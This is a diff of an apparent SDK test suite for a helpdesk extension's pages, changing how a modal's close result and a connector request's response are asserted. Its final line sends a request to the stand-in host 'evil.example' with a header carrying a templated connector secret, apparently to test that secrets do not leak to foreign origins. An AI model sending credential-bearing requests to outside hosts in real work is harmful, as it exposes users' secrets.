@@ -158,11 +158,11 @@ describe('Desk’s page', () => {
     assert.equal((await heard(probe))[0]?.[0], 'modal.opened');
     const names = await widgetNames(probe);
     assert.deepEqual(names, ['probe-ticket', 'late-ticket', 'probe-ticket-modal']);
-    assert.deepEqual(await callSdk(modal, 'invoke', 'MODAL_CLOSE'), {
-      ok: true,
-      value: { status: 'success' },
-    });
+    // Its frame goes with it, so the answer is looked for in the log.
+    void callSdk(modal, 'invoke', 'MODAL_CLOSE').catch(() => null);
     await page.locator('dialog.modal').waitFor({ state: 'detached' });
+    const last = (await messagesOf(page)).findLast(({ widget }) => widget === info.name);
+    assert.equal(last?.message?.['isSuccess'], true);
     assert.deepEqual(await widgetNames(probe), ['probe-ticket', 'late-ticket']);
     assert.equal((await callSdk(probe, 'invoke', 'MODAL_CLOSE')).ok, false);
     await page.close();
@@ -326,8 +326,8 @@ describe('the origin of the extension’s files', () => {
     const headers = { authorization: 'Bearer {{connector_secret}}' };
     const options = { url: `${connector}/v1/x`, type: 'GET', headers, data: {}, postBody: {} };
     const answer = await callSdk(probe, 'request', options);
-    assert.equal(answer.ok, true, 'an error of the connector resolves');
-    const { response, statusCode } = JSON.parse(String(answer.ok && answer.value)) as Record<string, unknown>;
+    assert.ok(answer.ok, 'an error of the connector resolves');
+    const { response, statusCode } = JSON.parse(String(answer.value)) as Record<string, unknown>;
     assert.deepEqual([statusCode, response], [409, '{"code":"paused"}']);
     assert.deepEqual(authorizations, ['Bearer s3cret']);
     const listed = await callSdk(probe, 'request', { url: 'https://evil.example/', type: 'GET', headers });
